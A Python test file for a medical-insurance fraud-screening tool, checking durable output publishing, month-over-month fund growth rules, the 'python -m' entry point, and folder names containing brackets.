def test_an_output_folder_is_on_disk_before_it_is_published(tmp_path, monkeypatch):
    """Every file and the folder are flushed before the folder is moved into place, and
    the move itself after: a night marks its leads reported once its report is in place,
    and a power cut must not keep the mark and lose the report (found in review)."""
    import errno
    import os

    from fraudscreen.output import staged

    synced: list[Path] = []
    real = os.fsync

    def recording(fd):
        synced.append(Path(os.readlink(f"/proc/self/fd/{fd}")))
        real(fd)

    monkeypatch.setattr(os, "fsync", recording)
    with staged(tmp_path / "out") as folder:
        (folder / "leads.csv").write_text("x", encoding="utf-8")
        (folder / "sub").mkdir()
        (folder / "sub" / "page.html").write_text("y", encoding="utf-8")
    assert synced == [folder / "leads.csv", folder / "sub", folder / "sub" / "page.html",
                      folder, tmp_path]
    assert (tmp_path / "out" / "sub" / "page.html").read_text(encoding="utf-8") == "y"

    def folders_refused(fd):  # as some file systems answer fsync on a folder
        if Path(os.readlink(f"/proc/self/fd/{fd}")).is_dir():
            raise OSError(errno.EINVAL, "Invalid argument")
        real(fd)

    monkeypatch.setattr(os, "fsync", folders_refused)
    with staged(tmp_path / "again") as folder:
        (folder / "leads.csv").write_text("x", encoding="utf-8")
    assert (tmp_path / "again" / "leads.csv").exists()


STAY_GROWTH = """\
id: custom.stay_growth
version: "1"
family: custom
family_title: 自定义
title: 住院基金月增长
description: 月住院基金支付额较上月增加50元以上。
severity: low
scope: institution
detect:
  kind: period_change
  source: stays
  group_by: [institution_id]
  time: admit_date
  period: month
  value: sum(fund_amount)
  having: increase >= 50
emit:
  amount_at_risk: increase
  message: "{institution_id} {period_start}"
  key: [institution_id, period_start]
"""


@pytest.mark.parametrize("window", [[], ["--from", "2024-02-01", "--to", "2024-03-31"]])
def test_a_period_change_over_a_source_without_context_compares_only_months_it_has(
        tmp_path, window):
    """`stays` has no context (the rows a window cuts off): under --from/--to its first
    month in the window must not be compared with the month before, summed as ¥0 since
    its rows are not read. Only March (¥300 against February's ¥100) is growth."""
    stays = [dict(settlement_id=f"S{m}", person_id="P", institution_id="H1",
                  medical_type="21", admit_time=f"2024-0{m}-10 08:00:00",
                  discharge_time=f"2024-0{m}-12 08:00:00", fund_amount=fund)
             for m, fund in ((1, 100), (2, 100), (3, 300))]
    lines = [dict(line_id=f"L{m}", settlement_id=f"S{m}", item_code="X",
                  charge_time=f"2024-0{m}-10 09:00:00", quantity=1, unit_price=1, amount=1)
             for m in (1, 2, 3)]
    rule = tmp_path / "stay_growth.yaml"
    rule.write_text(STAY_GROWTH, encoding="utf-8")
    out = tmp_path / "out"
    result = run("--data", str(data_folder(tmp_path, stays, lines)), "--out", str(out),
                 "--rules", str(rule), "--only", "custom", *window)
    assert result.exit_code == 0, result.output
    found = pl.read_parquet(out / "suspicions.parquet")
    assert found.select(pl.col("period_start").cast(pl.String), "amount_at_risk").rows() == [
        ("2024-03-01", Decimal("200.00"))]


def test_python_dash_m_runs_the_command():
    """``python -m fraudscreen`` is the command (a venv whose scripts are not on PATH):
    it had no ``__main__`` and failed with "is a package and cannot be directly executed"."""
    done = subprocess.run([sys.executable, "-m", "fraudscreen", "--version"],
                          capture_output=True, text=True, timeout=120)
    assert (done.returncode, done.stdout.split()[0]) == (0, "fraudscreen"), done.stderr


def test_a_folder_named_with_brackets_is_read_and_shown_as_it_is(tmp_path):
    """'[' is a glob to Polars and '[/…]' a closing tag to rich: a folder called
    导出[/2024] stopped the run (an 'invalid glob pattern', then a MarkupError traceback
    from the progress line naming it)."""
    data = tmp_path / "导出[" / "2024]"
    shutil.copytree(data_folder(tmp_path), data)
    out = tmp_path / "out[1]"
    result = CliRunner().invoke(app, ["run", "--data", str(data), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert f"reading {data} …" in result.output and "Traceback" not in result.output
    assert pl.read_parquet(out / "suspicions.parquet", glob=False).height > 0
